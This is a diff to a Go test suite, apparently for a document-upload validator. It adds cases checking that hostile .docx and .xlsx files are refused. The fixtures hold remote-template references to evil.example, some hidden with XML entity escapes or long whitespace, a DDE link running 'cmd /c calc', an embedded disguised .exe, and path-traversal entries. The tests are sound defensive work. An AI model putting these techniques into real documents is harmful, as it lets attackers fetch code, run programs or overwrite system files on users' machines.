@@ -53,7 +53,7 @@ func webp(kind byte, w, h int) []byte {
 func TestHostileFilesAreRefused(t *testing.T) {
 	r := newRoom(t)
 	types := func(text string) []byte {
-		return packed("[Content_Types].xml", "<Types>"+strings.Repeat(" ", 40_000)+text+"</Types>", "word/document.xml", "x")
+		return packed("[Content_Types].xml", "<Types>"+strings.Repeat(" ", 40_000)+`<Override ContentType="`+text+`"/></Types>`, "word/document.xml", "x")
 	}
 	for _, test := range []struct {
 		what, name string
@@ -71,6 +71,12 @@ func TestHostileFilesAreRefused(t *testing.T) {
 		{"controls", "a.docx", packed("word/document.xml", "x", "word/activeX/activeX1.xml", "x"), "document.error.macros"},
 		{"a template from elsewhere", "a.docx", packed("word/document.xml", "x", "word/_rels/settings.xml.rels",
 			`<Relationship Type="http://schemas/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`), "document.error.macros"},
+		{"a template from elsewhere, said otherwise", "a.docx", packed("word/document.xml", "x", "word/_rels/settings.xml.rels",
+			`<Relationship Target='\\evil.example\t.dotm' TargetMode='External' Type='http://schemas/officeDocument/2006/relationships/attachedTempl&#97;te'/>`), "document.error.macros"},
+		{"a list that is no UTF-8", "a.docx", packed("word/document.xml", "x", "word/_rels/settings.xml.rels", "\xff\xfe<\x00R\x00/\x00>\x00"), "document.error.damaged"},
+		{"a type for macros, said otherwise", "a.docx", types(`application/vnd.ms-word.document.macro&#69;nabled.main+xml`), "document.error.macros"},
+		{"a workbook that starts a program", "a.xlsx", packed("xl/workbook.xml", "x", "xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c calc"/>`), "document.error.macros"},
+		{"a program inside", "a.docx", packed("word/document.xml", "x", "word/embeddings/factura.PDF.exe", "MZ"), "document.error.macros"},
 		{"programs of OpenDocument", "a.odt", packed("mimetype", document.Odt, "Basic/Standard/Module1.xml", "x"), "document.error.macros"},
 		{"a path that leads out", "a.docx", packed("word/document.xml", "x", "../../etc/cron.d/x", "x"), "document.error.damaged"},
 		{"an absolute path", "a.docx", packed("word/document.xml", "x", "/etc/passwd", "x"), "document.error.damaged"},
